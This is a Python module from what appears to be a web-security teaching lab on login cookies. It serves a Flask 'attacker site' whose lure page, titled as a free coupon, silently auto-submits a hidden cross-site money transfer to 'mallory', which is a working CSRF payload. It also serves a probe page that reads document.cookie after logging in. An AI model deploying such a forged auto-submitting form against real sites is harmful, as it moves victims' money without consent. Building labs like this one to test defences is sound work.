"""Browser pieces of the login labs: the ⚠️ attacker site, the script-probe page, reading results from the DOM.

* ``create_attacker_app(target_url)`` — a page on another site that auto-submits a
  cross-site ``POST /transfer`` (CSRF);
* ``SCRIPT_PROBE_PAGE`` — served by the login app at ``GET /lab/script-probe``: its
  JavaScript logs in and writes what ``document.cookie`` shows into the DOM;
* ``parse_result(dom)`` — the JSON such a page left in its ``<pre>``.
"""

from __future__ import annotations

import html
import json
import re

from flask import Flask

__all__ = ["create_attacker_app", "SCRIPT_PROBE_PAGE", "parse_result"]

SCRIPT_PROBE_PAGE = """<!doctype html><meta charset="utf-8"><title>script probe</title>
<pre id="result">waiting</pre>
<script>
(async () => {
  const q = new URLSearchParams(location.search);
  const login = await fetch('/login', {method: 'POST', headers: {'Content-Type': 'application/json'},
    body: JSON.stringify({username: q.get('u'), password: q.get('p')})});
  const me = await fetch('/me');
  document.getElementById('result').textContent = JSON.stringify({
    login_status: login.status, me_status: me.status, document_cookie: document.cookie});
  if (q.get('next')) setTimeout(() => { location.href = q.get('next'); }, 50);
})().catch(e => { document.getElementById('result').textContent = 'error: ' + e; });
</script>"""


def create_attacker_app(target_url: str, to: str = "mallory", amount: int = 1_000_000) -> Flask:
    """⚠️ 공격자 사이트 (attacker site): its page auto-submits a POST /transfer to ``target_url``.

    Serve it on another *site* than the target (``localhost`` vs ``127.0.0.1``) to
    make the POST cross-site, as a malicious page in another tab would.
    """
    app = Flask("attacker")
    page = f"""<!doctype html><meta charset="utf-8"><title>무료 쿠폰!</title>
<form id="f" method="post" action="{html.escape(target_url.rstrip("/"))}/transfer">
<input type="hidden" name="to" value="{html.escape(to)}">
<input type="hidden" name="amount" value="{int(amount)}"></form>
<script>document.getElementById('f').submit();</script>"""

    @app.get("/")
    def index():
        return page

    return app


def parse_result(dom: str) -> dict | None:
    """The JSON the script probe (or a JSON response shown by the browser) left in the DOM."""
    m = re.search(r"<pre[^>]*>(.*?)</pre>", dom, re.S)
    if not m:
        return None
    try:
        return json.loads(html.unescape(m.group(1)))
    except ValueError:
        return None
